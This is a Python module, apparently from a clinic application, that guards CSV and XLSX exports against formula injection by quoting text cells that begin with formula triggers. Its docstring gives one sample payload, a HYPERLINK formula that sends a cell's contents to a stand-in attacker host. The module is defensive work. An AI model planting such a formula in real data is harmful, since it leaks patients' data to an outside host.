"""The one way Flexion writes CSV and XLSX files: every text cell is made inert.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula: a patient named ``=HYPERLINK("http://evil.test/?d="&A2)``
would run in the clinic's spreadsheet when it opens an export. As OWASP's CSV-injection
guidance advises, such text gets a leading single quote, which spreadsheets show as
text. Numbers, dates and empty cells are left alone (a negative number stays a number).

Every export writes through ``csv_writer`` or ``xlsx_write``; a test fails for any other
``csv.writer`` or openpyxl workbook in the project. Imports read cells back with
``cell_from_spreadsheet``, which undoes exactly what ``spreadsheet_cell`` added.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _looks_like_a_formula_after_quotes(text: str) -> bool:
    return text.lstrip(QUOTE).startswith(FORMULA_TRIGGERS)


def spreadsheet_cell(value: Any) -> Any:
    """Return value as a spreadsheet may safely hold it: text a formula could start gets a quote.

    Text that already starts with quotes before a trigger gets one more, so that
    ``cell_from_spreadsheet`` gives back exactly the original text.
    """
    if isinstance(value, str) and _looks_like_a_formula_after_quotes(value):
        return QUOTE + value
    return value


def cell_from_spreadsheet(text: str) -> str:
    """Undo ``spreadsheet_cell`` on a cell read back from a file."""
    if text.startswith(QUOTE) and _looks_like_a_formula_after_quotes(text):
        return text[1:]
    return text


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_cell(value) for value in values]


class _InertCSVWriter:
    def __init__(self, output: IO[str]):
        self._writer = csv.writer(output)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(spreadsheet_row(values))


def csv_writer(output: IO[str]) -> _InertCSVWriter:
    """Return a CSV writer (``writerow`` only) whose text cells are inert."""
    return _InertCSVWriter(output)


def xlsx_append(sheet, values: Iterable[Any]) -> None:
    """Append a row to a write-only openpyxl sheet; text is stored as text, never a formula."""
    cells = []
    for value in spreadsheet_row(values):
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)


def xlsx_write(output: IO[bytes], title: str, rows: Iterable[Iterable[Any]]) -> None:
    """Write rows as a one-sheet workbook; write-only mode keeps memory flat."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    for row in rows:
        xlsx_append(sheet, row)
    workbook.save(output)
